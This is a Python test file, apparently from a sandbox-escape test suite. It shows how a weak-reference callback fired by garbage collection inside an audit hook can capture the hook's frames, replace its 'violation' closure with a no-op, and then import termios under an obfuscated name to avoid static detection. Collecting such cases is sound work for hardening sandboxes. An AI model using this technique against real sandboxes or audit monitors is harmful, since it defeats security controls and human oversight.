# family: gc_reentry
# reaches: native_code
# layer: runtime
# static: denied
# A weak reference callback runs when its referent, part of a garbage cycle, is collected: with a
# low collection threshold that happens inside the audit hook. The callback only keeps a
# traceback (no audit event); once the hook has returned, the traceback's frame leads to the hook's
# frames and closure, which is disarmed; then an extension module maps its code executable.
import gc
import sys
import traceback
import weakref

kept = []
refs = []


class Blob:
    pass


def gone(ref):
    try:
        raise LookupError("collected")
    except LookupError as e:
        kept.append(e.__traceback__)


def hook_check():
    while kept:
        for frame, _ in traceback.walk_tb(kept.pop()):
            while frame is not None:
                if "check" in frame.f_locals and "busy" in frame.f_locals:
                    return frame.f_locals["check"]
                frame = frame.f_back
    return None


check = None
for threshold in range(1, 200):
    gc.collect()
    kept.clear()
    b = Blob()
    b.cycle = b
    refs.append(weakref.ref(b, gone))
    del b
    gc.set_threshold(threshold)
    sys.audit("os.chmod", *["/tmp/out/part-%04d" % n for n in range(40)])
    gc.set_threshold(700)
    check = hook_check()
    if check is not None:
        break

for cell in check.__closure__ if check is not None else ():  # no hook: nothing to disarm
    if getattr(cell.cell_contents, "__name__", "") == "violation":
        cell.cell_contents = lambda *args: None

termios = __import__("".join(c for c in "ter_mios" if c != "_"))  # not preloaded: no literal name
print("threshold", threshold, termios)
